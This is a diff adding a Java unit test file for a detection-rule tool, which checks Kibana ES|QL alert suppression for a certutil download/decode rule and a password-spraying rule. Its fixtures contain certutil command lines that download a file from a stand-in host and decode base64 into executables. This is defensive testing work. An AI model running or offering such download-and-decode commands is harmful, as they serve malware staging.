@@ -1,0 +1,174 @@
+package io.ruleforge.pipeline;
+
+import io.ruleforge.diag.Diagnostic;
+import io.ruleforge.kql.KibanaVersion;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * The project's ES|QL rules with {@code alert_suppression} (Kibana 8.15+) through the test stage. The expectations
+ * are reasoned from Kibana's ES|QL executor ({@code esql.ts}): each result row becomes a hit — a non-aggregating
+ * query's row merged over its source document ({@code mergeEsqlResultInSource}: the row's column replaces the
+ * source's field), an aggregating one's row alone — and {@code wrapSuppressedEsqlAlerts} reads the suppression terms
+ * from {@code {...fields, ..._source}}: a column wins, a field the row does not keep comes from the source document's
+ * fields (a STATS row has none). {@code bulkCreateSuppressedAlertsInMemory} then keeps the first alert of each group,
+ * counting the others; under {@code doNotSuppress} a hit missing a group field is a plain alert.
+ */
+class EsqlSuppressionTest {
+
+    private static final String CERTUTIL = "certutil_decode_or_download_esql";
+    private static final String SPRAYING = "password_spraying_from_one_source_esql";
+
+    @TempDir
+    Path dir;
+
+    private StageReport test(String stem, java.util.function.UnaryOperator<String> edit, String suppression, String caseJson) throws Exception {
+        Path project = Path.of("..").toAbsolutePath().normalize();
+        Files.createDirectories(dir.resolve("rules"));
+        String rule = edit.apply(Files.readString(project.resolve("rules/" + stem + ".toml")));
+        int threat = rule.indexOf("\n[[rule.threat]]");
+        rule = rule.substring(0, threat) + "\n" + suppression + rule.substring(threat);
+        Files.writeString(dir.resolve("rules/" + stem + ".toml"), rule);
+        Path cases = Files.createDirectories(dir.resolve("fixtures/" + stem + "/cases"));
+        Files.writeString(cases.resolve("case.json"), caseJson);
+        Ruleforge forge = new Ruleforge(new RuleforgeOptions(dir.resolve("rules"), dir.resolve("fixtures"), dir.resolve("out"), dir,
+                List.of(), KibanaVersion.DEFAULT, "ecs", false));
+        forge.lock();
+        return forge.test();
+    }
+
+    private static String suppression(String field, String strategy) {
+        return "[rule.alert_suppression]\ngroup_by = [\"" + field + "\"]\nmissing_fields_strategy = \"" + strategy + "\"\n";
+    }
+
+    /** certutil.exe started on {@code host} with {@code args}. */
+    private static String certutil(String time, String host, String user, String args) {
+        return "{\"@timestamp\": \"2026-11-26T" + time + ".000Z\", \"host\": {\"name\": \"" + host + "\", \"os\": {\"type\": \"windows\"}}, "
+                + "\"user\": {\"name\": \"" + user + "\"}, \"event\": {\"category\": [\"process\"], \"type\": [\"start\"]}, "
+                + "\"process\": {\"name\": \"certutil.exe\", \"command_line\": \"certutil.exe " + args + "\"}}";
+    }
+
+    /**
+     * Three decoding/downloading certutil runs (WS-21, ws-21, WS-22) and one harmless one; the query lower-cases
+     * host.name in an EVAL before its KEEP, so the rows name ws-21, ws-21, ws-22.
+     */
+    private static final String CERTUTIL_CASE = """
+            {"now": "2026-11-26T10:05:00.000Z",
+             "events": [
+             %s,
+             %s,
+             %s,
+             %s
+             ],
+             "expect": %s}
+            """;
+
+    private static String certutilCase(String expect) {
+        return CERTUTIL_CASE.formatted(certutil("10:00:00", "WS-21", "alice", "-urlcache -split -f http://203.0.113.7/a.txt a.txt"),
+                certutil("10:01:00", "ws-21", "bob", "-decode a.b64 a.exe"),
+                certutil("10:02:00", "WS-22", "alice", "-decode b.b64 b.exe"),
+                certutil("10:03:00", "WS-21", "carol", "-hashfile a.exe"), expect);
+    }
+
+    private static String lowerCaseHost(String toml) {
+        return toml.replace("| keep @timestamp", "| eval host.name = to_lower(host.name)\n| keep @timestamp");
+    }
+
+    @Test
+    void aNonAggregatingRowsColumnDecidesItsGroupOverTheSourceEvent() throws Exception {
+        // grouped by the row's host.name: ws-21 (10:00, 10:01: one alert, 1 suppressed) and ws-22. Were the source's
+        // host.name read instead, WS-21, ws-21 and WS-22 would be three groups.
+        String expect = "{\"alerts\": 2, \"suppressed\": 1, \"groups\": [{\"key\": {\"host.name\": \"ws-21\"}, \"suppressed\": 1},"
+                + " {\"key\": {\"host.name\": \"ws-22\"}, \"suppressed\": 0}]}";
+        StageReport report = test(CERTUTIL, EsqlSuppressionTest::lowerCaseHost, suppression("host.name", "suppress"), certutilCase(expect));
+        assertThat(report.summary()).anySatisfy(l -> assertThat(l).startsWith("PASS rules/" + CERTUTIL + ".toml"));
+        assertThat(report.diagnostics()).filteredOn(Diagnostic::isError).isEmpty();
+    }
+
+    @Test
+    void aFieldTheRowDoesNotKeepIsReadFromTheSourceEvent() throws Exception {
+        // host.os.type is not among the KEEP columns: Kibana reads it from the source document's fields, "windows"
+        // for all three rows — one alert, 2 suppressed (read from the row alone it would be missing, and under
+        // doNotSuppress each row would alert on its own: 3 alerts)
+        String expect = "{\"alerts\": 1, \"suppressed\": 2, \"groups\": [{\"key\": {\"host.os.type\": \"windows\"}, \"suppressed\": 2}]}";
+        StageReport report = test(CERTUTIL, t -> t, suppression("host.os.type", "doNotSuppress"), certutilCase(expect));
+        assertThat(report.summary()).anySatisfy(l -> assertThat(l).startsWith("PASS rules/" + CERTUTIL + ".toml"));
+    }
+
+    @Test
+    void withoutTheIdColumnARowHasNoSourceEventToReadAFieldFrom() throws Exception {
+        // the same rule keeping no _id: the executor finds no source document for a row, so host.os.type is missing
+        // on all three hits and under doNotSuppress each alerts on its own
+        String expect = "{\"alerts\": 3, \"suppressed\": 0}";
+        StageReport report = test(CERTUTIL, t -> t.replace("process.command_line, _id, _version, _index", "process.command_line"),
+                suppression("host.os.type", "doNotSuppress"), certutilCase(expect));
+        assertThat(report.summary()).anySatisfy(l -> assertThat(l).startsWith("PASS rules/" + CERTUTIL + ".toml"));
+    }
+
+    @Test
+    void anotherGroupByFieldFailsTheCaseNamingWhatWasFound() throws Exception {
+        String expect = "{\"alerts\": 2, \"suppressed\": 1, \"groups\": [{\"key\": {\"host.name\": \"ws-21\"}, \"suppressed\": 1},"
+                + " {\"key\": {\"host.name\": \"ws-22\"}, \"suppressed\": 0}]}";
+        // by user.name: alice (10:00, 10:02) and bob — the same counts, other keys
+        StageReport report = test(CERTUTIL, EsqlSuppressionTest::lowerCaseHost, suppression("user.name", "suppress"), certutilCase(expect));
+        assertThat(report.summary()).anySatisfy(l -> assertThat(l).startsWith("FAIL rules/" + CERTUTIL + ".toml"));
+        assertThat(report.summary()).anySatisfy(l -> assertThat(l).contains("expected an alert for host.name=ws-21, found none"));
+    }
+
+    /** Ten failed logons from {@code ip} over three accounts on DC-01, a minute apart from {@code minute}. */
+    private static List<String> spray(String ip, int minute) {
+        List<String> out = new ArrayList<>();
+        for (int i = 0; i < 10; i++) {
+            out.add("{\"@timestamp\": \"2026-11-26T09:%02d:%02d.000Z\", \"event\": {\"category\": [\"authentication\"], \"outcome\": \"failure\"}, "
+                    .formatted(minute + i, ip.endsWith("23") ? 0 : 30)
+                    + "\"source\": {\"ip\": \"" + ip + "\"}, \"user\": {\"name\": \"" + List.of("alice", "bob", "carol").get(i % 3) + "\"}, "
+                    + "\"host\": {\"name\": \"DC-01\"}}");
+        }
+        return out;
+    }
+
+    private static String sprayCase(String expect) {
+        List<String> events = new ArrayList<>(spray("198.51.100.23", 10));
+        events.addAll(spray("198.51.100.24", 10));
+        events.sort(null); // by their timestamps, which lead each line
+        return "{\"now\": \"2026-11-26T09:21:00.000Z\", \"events\": [\n" + String.join(",\n", events) + "\n], \"expect\": " + expect + "}";
+    }
+
+    @Test
+    void aggregatingRowsGroupByTheirOwnColumns() throws Exception {
+        // two rows (one per source.ip), both with Esql.host_name_values ["DC-01"]: one alert, 1 suppressed
+        String expect = "{\"alerts\": 1, \"suppressed\": 1, \"groups\": [{\"key\": {\"Esql.host_name_values\": \"DC-01\"}, \"suppressed\": 1}],"
+                + " \"rows\": [{\"source.ip\": \"198.51.100.23\"}, {\"source.ip\": \"198.51.100.24\"}]}";
+        StageReport report = test(SPRAYING, t -> t, suppression("Esql.host_name_values", "suppress"), sprayCase(expect));
+        assertThat(report.summary()).anySatisfy(l -> assertThat(l).startsWith("PASS rules/" + SPRAYING + ".toml"));
+    }
+
+    @Test
+    void anAggregatingRowHasNoSourceEventToReadAFieldFrom() throws Exception {
+        // host.name is no column of the STATS rows, and a STATS row has no source document: both rows miss it, and
+        // under doNotSuppress each is an alert of its own
+        String expect = "{\"alerts\": 2, \"suppressed\": 0}";
+        StageReport report = test(SPRAYING, t -> t, suppression("host.name", "doNotSuppress"), sprayCase(expect));
+        assertThat(report.summary()).anySatisfy(l -> assertThat(l).startsWith("PASS rules/" + SPRAYING + ".toml"));
+        // the same with suppress: the two missing values are one group
+        StageReport suppressed = test(SPRAYING, t -> t, suppression("host.name", "suppress"), sprayCase(expect));
+        assertThat(suppressed.summary()).anySatisfy(l -> assertThat(l).contains("expected 2 alerts, found 1 alert",
+                "expected 0 suppressed events in all, found 1"));
+    }
+
+    @Test
+    void groupsOfAnEsqlRuleWithoutSuppressionAreAnErrorAtTheirPosition() throws Exception {
+        StageReport report = test(SPRAYING, t -> t, "", sprayCase("{\"alerts\": 2, \"suppressed\": 0}"));
+        assertThat(report.diagnostics()).anySatisfy(d -> {
+            assertThat(d.code()).isEqualTo("RF6201");
+            assertThat(d.message()).contains("\"suppressed\" is not checked for an ES|QL rule without alert_suppression");
+        });
+    }
+}
